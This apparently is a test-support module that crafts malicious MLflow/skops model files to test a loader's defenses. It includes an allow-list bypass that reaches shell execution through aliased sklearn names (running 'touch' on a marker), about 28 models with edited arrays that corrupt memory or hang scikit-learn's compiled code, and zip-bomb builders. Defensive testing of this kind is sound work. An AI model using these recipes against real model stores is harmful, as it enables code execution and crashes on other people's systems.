"""Crafted model artifacts, as an attacker with write access to a store makes them.

Every file here is a genuine MLflow sklearn-flavor folder in the skops format, naming only types
on lolpop's allow-list:

* :func:`crafted_transformer`: a ``FunctionTransformer`` fed by ``numpy.full_like`` (a string
  column holding a shell command) and then by ``subprocess.check_output(..., shell=True)`` — both
  named through aliases inside the ``sklearn`` package
  (``sklearn.externals.array_api_compat.numpy.full_like``, ``sklearn.utils._testing.check_output``),
  so a rule "any name starting with ``sklearn.``" lets them through. Transforming any frame with
  an iris column then runs ``touch <marker>``.
* :data:`CRAFTED`: fitted models whose arrays were edited afterwards so that scikit-learn's
  compiled code indexes out of range (SIGSEGV, SIGFPE, heap corruption) or loops forever on the
  first ``predict`` / ``transform``. Each names the type lolpop must refuse and what is wrong.
* :func:`zip_bomb`: a model file whose ``schema.json`` inflates to far more than its size.

Run ``python -m tests.support.crafted_model NAME [raw]`` to load crafted file NAME with lolpop
(``raw``: with skops alone) and call its method, in *this* process: for demonstrating what a file
does to a reader, from a parent that watches the exit status. Tests only ever load these files.
"""

from __future__ import annotations

import json
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import yaml

COLUMN = "sepal length (cm)"
FULL_LIKE = ("sklearn.externals.array_api_compat.numpy", "full_like")
CHECK_OUTPUT = ("sklearn.utils._testing", "check_output")


def _placeholder(X: Any, shell: bool = False) -> Any:
    """Stands in for ``check_output`` while fitting; its name is replaced in the file."""
    return np.asarray(X).reshape(-1, 1)


def _patch(node: Any) -> None:
    if isinstance(node, dict):
        if node.get("__loader__") == "FunctionNode":
            if node.get("__class__") == "full_like":
                node["__module__"], node["__class__"] = FULL_LIKE
            elif node.get("__class__") == "_placeholder":
                node["__module__"], node["__class__"] = CHECK_OUTPUT
        for value in node.values():
            _patch(value)
    elif isinstance(node, list):
        for value in node:
            _patch(value)


def model_file(folder: Path) -> Path:
    return folder / yaml.safe_load((folder / "MLmodel").read_text())["flavors"]["sklearn"]["pickled_model"]


def write_model(obj: Any, folder: Path) -> Path:
    """Save ``obj`` as MLflow would for anyone (skops, trusting what the file names): no lolpop check."""
    import mlflow.sklearn
    import skops.io

    trusted = skops.io.get_untrusted_types(data=skops.io.dumps(obj))
    mlflow.sklearn.save_model(obj, str(folder), serialization_format="skops",
                              skops_trusted_types=trusted, pip_requirements=["scikit-learn"])
    return folder


def edit_schema(folder: Path, edit: Callable[[Any], None]) -> None:
    """Rewrite the model file of ``folder`` with ``edit`` applied to its ``schema.json``."""
    path = model_file(folder)
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(files["schema.json"])
    edit(schema)
    files["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)


def crafted_transformer(folder: Path, marker: Path, X: Any) -> Path:
    """Write the crafted transformer folder (fitted on frame ``X``) and return it."""
    from sklearn.compose import ColumnTransformer
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    steps = Pipeline([
        ("fill", FunctionTransformer(np.full_like, kw_args={"fill_value": f"touch {marker}", "dtype": "O"})),
        ("run", FunctionTransformer(_placeholder, kw_args={"shell": True})),
    ])
    transformer = ColumnTransformer([("x", steps, COLUMN)]).fit(X)
    write_model(transformer, folder)
    edit_schema(folder, _patch)
    return folder


# -- models whose arrays make compiled code index out of range ------------------------------
@dataclass
class Crafted:
    """A fitted model with edited arrays, and what lolpop must say when refusing it."""

    model: Any
    X: Any  # input of the call that goes wrong
    method: str  # "predict", "transform", ...
    type_name: str  # the type the refusal names
    problem: str  # what the refusal says is wrong (a substring)
    edit: Callable[[Any], None] | None = None  # applied to schema.json after saving

    def write(self, folder: Path) -> Path:
        write_model(self.model, folder)
        if self.edit is not None:
            edit_schema(folder, self.edit)
        return folder


def _iris() -> tuple[np.ndarray, np.ndarray]:
    from sklearn.datasets import load_iris

    return load_iris(return_X_y=True)


def _set_state(obj: Any, edit: Callable[[Any], Any]) -> Any:
    """Rebuild a Cython object (KDTree, DistanceMetric) from its edited pickling state."""
    obj.__setstate__(edit(obj.__getstate__()))
    return obj


def _nodes(schema: Any) -> Iterator[dict[str, Any]]:
    stack = [schema]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            yield node
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)


# gradient boosting ------------------------------------------------------------------------------
def gb_width(width: int = 3) -> Crafted:
    """Binary: raw predictions are 1 column wide, ``estimators_`` ``width`` (each cell the same
    tree, as skops' reference to an object already loaded): ``predict_stages`` writes past them."""
    from sklearn.ensemble import GradientBoostingClassifier

    X, y = _iris()
    model = GradientBoostingClassifier(n_estimators=1, max_depth=1, random_state=0).fit(X, y == 2)

    def edit(schema: Any) -> None:
        row = schema["content"]["content"]["estimators_"]["content"][0]["content"]
        ref = {k: row[0][k] for k in ("__class__", "__module__", "__id__")}
        row.extend([{**ref, "__loader__": "CachedNode"}] * (width - 1))

    return Crafted(model, X[:2], "predict", "GradientBoostingClassifier", "trees per stage", edit)


# histogram gradient boosting ------------------------------------------------------------------
def _hgb() -> tuple[Any, np.ndarray]:
    from sklearn.ensemble import HistGradientBoostingClassifier

    X, y = _iris()
    return HistGradientBoostingClassifier(max_iter=3, max_depth=2, random_state=0).fit(X, y), X


def hgb_child() -> Crafted:
    model, X = _hgb()
    model._predictors[0][0].nodes["left"][0] = 50_000_000
    return Crafted(model, X, "predict", "HistGradientBoostingClassifier", "child node index is out of order or out of range")


def hgb_cycle() -> Crafted:
    """The root is its own child: the walk never reaches a leaf."""
    model, X = _hgb()
    nodes = model._predictors[0][0].nodes
    nodes["left"][0] = nodes["right"][0] = 0
    return Crafted(model, X, "predict", "HistGradientBoostingClassifier", "child node index is out of order or out of range")


def hgb_feature() -> Crafted:
    model, X = _hgb()
    model._predictors[0][0].nodes["feature_idx"][0] = 2**40
    return Crafted(model, X, "predict", "HistGradientBoostingClassifier", "feature index out of range")


def hgb_bitset() -> Crafted:
    """A categorical split whose bitset row is far past the (empty) bitset array."""
    model, X = _hgb()
    node = model._predictors[0][0].nodes[0]
    model._bin_mapper.is_categorical_[node["feature_idx"]] = 1
    model._bin_mapper.bin_thresholds_[node["feature_idx"]] = np.arange(3.0)
    nodes = model._predictors[0][0].nodes
    nodes["is_categorical"][0], nodes["bitset_idx"][0] = 1, 2**31
    return Crafted(model, X, "predict", "HistGradientBoostingClassifier", "bitset index out of range")


def hgb_categorical_split() -> Crafted:
    """A categorical split on a feature the bin mapper has no known-categories bitset for."""
    model, X = _hgb()
    model._predictors[0][0].nodes["is_categorical"][0] = 1
    return Crafted(model, X, "predict", "HistGradientBoostingClassifier", "does not treat as categorical")


def hgb_bin_mapper() -> Crafted:
    """The bin mapper's per-feature arrays cover fewer features than the trees split on."""
    model, X = _hgb()
    mapper = model._bin_mapper
    mapper.is_categorical_, mapper.bin_thresholds_ = mapper.is_categorical_[:1].copy(), mapper.bin_thresholds_[:1]
    mapper.n_bins_non_missing_ = mapper.n_bins_non_missing_[:1].copy()
    return Crafted(model, X, "predict", "HistGradientBoostingClassifier", "another number of features")


def hgb_in_fit() -> Crafted:
    """Marked as mid-fit, ``predict`` skips validating the input and walks it as binned data."""
    model, X = _hgb()
    model._in_fit = True
    return Crafted(model, X.astype(np.uint8)[:, :1], "predict", "HistGradientBoostingClassifier", "_in_fit")


# nearest neighbors -----------------------------------------------------------------------------
def _knn(algorithm: str = "kd_tree", **params: Any) -> tuple[Any, np.ndarray]:
    from sklearn.neighbors import KNeighborsClassifier

    X, y = _iris()
    return KNeighborsClassifier(n_neighbors=3, algorithm=algorithm, **params).fit(X, y), X


def kdtree_idx_array() -> Crafted:
    model, X = _knn()
    _set_state(model._tree, lambda s: (s[0], np.full_like(s[1], 2**40), *s[2:]))
    return Crafted(model, X, "predict", "KDTree", "idx_array is not a permutation")


def kdtree_node_range() -> Crafted:
    model, X = _knn()

    def edit(state: Any) -> Any:
        node_data = state[2].copy()
        node_data["idx_end"][:] = 2**40
        return (*state[:2], node_data, *state[3:])

    _set_state(model._tree, edit)
    return Crafted(model, X, "predict", "KDTree", "range of points is out of range")


def kdtree_children() -> Crafted:
    """One node, not a leaf: queries read its children 1 and 2, past the node arrays."""
    model, X = _knn()

    def edit(state: Any) -> Any:
        node_data = state[2][:1].copy()
        node_data["is_leaf"][0] = False
        return (state[0], state[1], node_data, state[3][:, :1].copy(), state[4], 1, 1, *state[7:])

    _set_state(model._tree, edit)
    return Crafted(model, X, "predict", "KDTree", "not a leaf has no children")


def balltree_metric() -> Crafted:
    """A Mahalanobis matrix 1 x 1 for 400 features: the metric writes 400 doubles into a 1-double buffer."""
    from sklearn.neighbors import KNeighborsClassifier

    rng = np.random.default_rng(0)
    X, y = rng.normal(size=(60, 400)), rng.integers(0, 2, 60)
    model = KNeighborsClassifier(n_neighbors=3, algorithm="ball_tree", metric="mahalanobis",
                                 metric_params={"VI": np.eye(400)}).fit(X, y)
    metric = model._tree.__getstate__()[11]
    _set_state(metric, lambda s: (s[0], s[1], np.eye(1)))
    _set_state(model._tree, lambda s: (*s[:11], metric, s[12]))
    return Crafted(model, X, "predict", "BallTree", "Mahalanobis matrix is (1, 1)")


def knn_labels() -> Crafted:
    """Brute force votes into ``class_scores[_y[neighbor]]`` (3 classes wide)."""
    model, X = _knn("brute", metric="manhattan")
    model._y = np.full_like(model._y, 2**40)
    return Crafted(model, X, "predict", "KNeighborsClassifier", "class index in _y is out of range")


def knn_fit_X() -> Crafted:
    """``_fit_X`` one column wide, the input validated for 2000: distances read past every row."""
    from sklearn.neighbors import KNeighborsClassifier

    rng = np.random.default_rng(0)
    X, y = rng.normal(size=(50, 2000)), rng.integers(0, 2, 50)
    model = KNeighborsClassifier(n_neighbors=3, algorithm="brute", metric="manhattan").fit(X, y)
    model._fit_X = np.ascontiguousarray(model._fit_X[:, :1])
    return Crafted(model, X, "predict", "KNeighborsClassifier", "_fit_X has 1 columns")


# support vector machines ------------------------------------------------------------------------
def _svc(**params: Any) -> tuple[Any, np.ndarray]:
    from sklearn.svm import SVC

    X, y = _iris()
    return SVC(**params).fit(X, y), X


def svc_support() -> Crafted:
    """``support_`` says 200000 support vectors, the model holds 60 rows: libsvm walks past them."""
    model, X = _svc()
    n = 200_000
    model.support_ = np.zeros(n, dtype=np.int32)
    model._dual_coef_ = np.zeros((model._dual_coef_.shape[0], n))
    return Crafted(model, X, "predict", "SVC", "support_ holds 200000 vectors")


def svc_classes() -> Crafted:
    """3000 classes in ``_n_support``: libsvm reads 4498500 intercepts from an array of 3."""
    model, X = _svc()
    k, n_sv = 3000, model.support_vectors_.shape[0]
    model._n_support = np.zeros(k, dtype=np.int32)
    model._n_support[0] = n_sv
    model._dual_coef_ = np.zeros((k - 1, n_sv))
    return Crafted(model, X, "predict", "SVC", "_n_support counts 3000 classes")


def svc_proba() -> Crafted:
    """Platt parameters for 1 class pair, libsvm copies 3."""
    model, X = _svc(probability=True, random_state=0)
    model._probA, model._probB = model._probA[:1].copy(), model._probB[:1].copy()
    return Crafted(model, X, "predict_proba", "SVC", "_probA is not empty nor 3")


def svc_precomputed() -> Crafted:
    """A precomputed kernel: libsvm reads input column ``support_[i]`` (the kernel has 150)."""
    from sklearn.svm import SVC

    X, y = _iris()
    model = SVC(kernel="precomputed").fit(X @ X.T, y)
    model.support_ = model.support_.copy()
    model.support_[0] = 2**30
    return Crafted(model, X @ X.T, "predict", "SVC", "support_ index is out of range")


def svr_impl() -> Crafted:
    """An SVR whose instance says it is a C-SVC: libsvm then reads class counts it does not have."""
    from sklearn.svm import SVR

    X, y = _iris()
    model = SVR().fit(X, y)
    model._impl = "c_svc"
    return Crafted(model, X, "predict", "SVR", "overrides class attribute(s) _impl")


# k-means ---------------------------------------------------------------------------------------
def kmeans_centers() -> Crafted:
    """Centers 1 column wide, the input 2000: BLAS reads 2000 doubles per center."""
    from sklearn.cluster import KMeans

    X = np.random.default_rng(0).normal(size=(50, 2000))
    model = KMeans(n_clusters=2, n_init=1, random_state=0).fit(X)
    model.cluster_centers_ = np.ascontiguousarray(model.cluster_centers_[:, :1])
    return Crafted(model, X, "predict", "KMeans", "cluster_centers_ is (2, 1)")


# encoders that build a sparse matrix from fitted indices --------------------------------------------
def onehot_mapping() -> Crafted:
    from sklearn.preprocessing import OneHotEncoder

    X = np.array([["a"], ["b"], ["c"]] * 100, dtype=object)
    model = OneHotEncoder(sparse_output=False).fit(X)
    model._infrequent_enabled = True
    model._infrequent_indices = [None]
    model._default_to_infrequent_mappings = [np.array([0, 1, 2**33])]
    return Crafted(model, X, "transform", "OneHotEncoder", "feature 0 encodes to column 8589934592 of its 3")


def onehot_widths() -> Crafted:
    from sklearn.preprocessing import OneHotEncoder

    X = np.array([["a", "x"], ["b", "y"], ["c", "z"]] * 100, dtype=object)
    model = OneHotEncoder(sparse_output=False).fit(X)
    model._n_features_outs = [1, 1]
    return Crafted(model, X, "transform", "OneHotEncoder", "feature 0 encodes to column 2 of its 1")


def dictvectorizer_vocabulary() -> Crafted:
    from sklearn.feature_extraction import DictVectorizer

    X = [{"a": 1.0, "b": 2.0}] * 1000
    model = DictVectorizer(sparse=False).fit(X)
    model.vocabulary_ = {"a": 0, "b": 2**30}
    return Crafted(model, X, "transform", "DictVectorizer", "vocabulary_ does not number its 2 entries")


def multilabel_cache() -> Crafted:
    from sklearn.preprocessing import MultiLabelBinarizer

    y = [[1, 2], [3]] * 1000
    model = MultiLabelBinarizer().fit(y)
    model._cached_dict = {1: 0, 2: 2**30, 3: 1}
    return Crafted(model, y, "transform", "MultiLabelBinarizer", "_cached_dict does not number its 3 entries")


# any object: random states, parameters, sparse matrices ------------------------------------------
def random_state_pos() -> Crafted:
    """``DummyClassifier(strategy="uniform")`` draws from its RandomState at predict time."""
    from sklearn.dummy import DummyClassifier

    X, y = _iris()
    rs = np.random.RandomState(0)
    state = list(rs.get_state())
    state[2] = 10**9
    rs.set_state(tuple(state))
    model = DummyClassifier(strategy="uniform", random_state=rs).fit(X, y)
    return Crafted(model, X, "predict", "RandomState", "points at pos 1000000000")


def generator_philox() -> Crafted:
    """A Generator (held by HistGradientBoosting) whose Philox buffer position is before its buffer."""
    model, X = _hgb()
    rng = np.random.Generator(np.random.Philox(0))
    state = rng.bit_generator.state
    state["buffer_pos"] = -(10**6)
    rng.bit_generator.state = state
    model._feature_subsample_rng = rng
    return Crafted(model, None, "_feature_subsample_rng.random", "Generator", "points at buffer_pos -1000000")


def hasher_n_features() -> Crafted:
    """``n_features=0``: the hashing code computes ``h % 0`` (SIGFPE)."""
    from sklearn.feature_extraction import FeatureHasher

    model = FeatureHasher(n_features=8, input_type="string")
    model.n_features = 0
    return Crafted(model, [["a", "b"]], "transform", "FeatureHasher", "'n_features' parameter of FeatureHasher")


def sparse_indices() -> Crafted:
    """Column indices past the matrix: the sparse product reads far outside the input."""
    from sklearn.random_projection import SparseRandomProjection

    X, _ = _iris()
    model = SparseRandomProjection(n_components=3, random_state=0).fit(X)
    components = model.components_.tocsr()
    components.indices[:] = 2**30
    model.components_ = components
    return Crafted(model, X, "transform", "csr_matrix", "indices must be < 4")


CRAFTED: dict[str, Callable[[], Crafted]] = {
    fn.__name__: fn for fn in (
        gb_width,
        hgb_child, hgb_cycle, hgb_feature, hgb_bitset, hgb_categorical_split, hgb_bin_mapper,
        hgb_in_fit,
        kdtree_idx_array, kdtree_node_range, kdtree_children, balltree_metric, knn_labels, knn_fit_X,
        svc_support, svc_classes, svc_proba, svc_precomputed, svr_impl,
        kmeans_centers,
        onehot_mapping, onehot_widths, dictvectorizer_vocabulary, multilabel_cache,
        random_state_pos, generator_philox, hasher_n_features, sparse_indices,
    )
}


# -- zip bombs -----------------------------------------------------------------------------------
def zip_bomb(path: Path, inflated: int, member: str = "schema.json", *, mode: str = "w") -> Path:
    """Write (``mode="a"``: add) a zip member ``member`` that inflates to ``inflated`` zero bytes
    (deflated at level 1: about 1/200 of that). The zeros are streamed, so writing costs no memory."""
    chunk = bytes(2**20)
    with zipfile.ZipFile(path, mode, compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open(member, "w", force_zip64=inflated >= 2**32) as out:
            for _ in range(inflated // len(chunk)):
                out.write(chunk)
            out.write(bytes(inflated % len(chunk)))
    return path


def declare_size(path: Path, member: str, size: int) -> Path:
    """Make the central directory of zip ``path`` state ``size`` as the inflated size of
    ``member`` (a directory that lies; the member's data is unchanged)."""
    data = bytearray(path.read_bytes())
    at = data.index(b"PK\x01\x02")
    while at >= 0:
        name_length = int.from_bytes(data[at + 28:at + 30], "little")
        extra, comment = (int.from_bytes(data[at + k:at + k + 2], "little") for k in (30, 32))
        if data[at + 46:at + 46 + name_length].decode() == member:
            data[at + 24:at + 28] = size.to_bytes(4, "little")
            path.write_bytes(bytes(data))
            return path
        at = data.find(b"PK\x01\x02", at + 46 + name_length + extra + comment)
    raise KeyError(member)


def _main(argv: list[str]) -> None:
    import tempfile
    import warnings

    warnings.simplefilter("ignore")
    crafted = gb_width(200_000) if argv[0] == "gb_width" else CRAFTED[argv[0]]()
    with tempfile.TemporaryDirectory() as tmp:
        folder = crafted.write(Path(tmp) / "m")
        if argv[1:] == ["raw"]:  # scikit-learn as MLflow would load it: no lolpop check
            import skops.io

            path = model_file(folder)
            loaded = skops.io.load(path, trusted=skops.io.get_untrusted_types(file=path))
        else:
            from lolpop.component._sklearn_io import load_sklearn

            loaded = load_sklearn(folder)
        print(f"loaded; calling {crafted.method}", flush=True)
        target = loaded
        for part in crafted.method.split("."):
            target = getattr(target, part)
        target(crafted.X) if crafted.X is not None else target()
        print("returned", flush=True)


if __name__ == "__main__":
    _main(sys.argv[1:])
